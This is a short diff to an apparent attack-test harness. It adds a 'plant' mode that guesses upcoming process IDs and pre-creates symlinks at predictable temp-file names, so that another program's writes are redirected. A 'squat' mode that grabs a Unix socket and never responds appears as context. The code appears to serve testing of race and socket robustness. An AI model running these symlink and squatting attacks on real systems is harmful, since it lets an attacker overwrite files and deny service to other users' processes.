@@ -112,6 +112,18 @@ def main(attack: str, name: str, *args: str) -> Any:
             except OSError:
                 pass
         return "sent"
+    if attack == "plant":  # links where the victim's next run writes (the names the old ledger used)
+        directory, target = args
+        planted, refused = 0, ""
+        start = max(int(p) for p in os.listdir("/proc") if p.isdigit())
+        for pid in range(start, start + 3000):
+            for name in (f"ledger.json.{pid}.tmp", f"nvml.state.{pid}.tmp"):
+                try:
+                    os.symlink(target, os.path.join(directory, name))
+                    planted += 1
+                except OSError as exc:
+                    refused = f"{type(exc).__name__}: {exc.strerror}"
+        return {"planted": planted, "refused": refused}
     if attack == "squat":  # bind the address before any run does, and never answer
         squatter = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
         squatter.bind(where)
